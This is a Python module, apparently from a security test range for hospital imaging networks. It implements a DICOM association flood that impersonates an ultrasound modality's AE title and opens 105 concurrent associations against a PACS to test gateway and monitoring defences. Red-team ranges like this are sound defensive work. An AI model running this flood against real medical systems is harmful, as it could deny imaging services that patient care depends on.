"""Association flood from a compromised modality's AE (T1498, T0814)."""

from __future__ import annotations

from radguard.range.attacks.kit import Attack, Context, Outcome

FLOOD = 105
THREADS = 5


def run(ctx: Context) -> Outcome:
    from concurrent.futures import ThreadPoolExecutor

    from pynetdicom import AE
    from pynetdicom.sop_class import Verification  # type: ignore[attr-defined]

    host, port, called = ctx.front
    ae = AE(ae_title="US01")
    ae.add_requested_context(Verification)
    ae.acse_timeout = ae.network_timeout = 5

    def one(_: int) -> int:
        assoc = ae.associate(host, port, ae_title=called)
        if assoc.is_established:
            assoc.abort()
            return 1
        return 0

    with ThreadPoolExecutor(THREADS) as pool:
        accepted = sum(pool.map(one, range(FLOOD)))
    return Outcome(success=accepted >= FLOOD, impact={"associations_accepted": accepted, "associations": FLOOD},
                   note=f"{accepted}/{FLOOD} associations reached the PACS")


ATTACK = Attack(
    name="association-flood", title="Association flood", attack_ids=("T1498", "T0814"),
    precondition="a modality's AE title (US01)", objective="every flood association reaches the PACS",
    layers=("gateway", "monitor"), run=run, noisy=True)
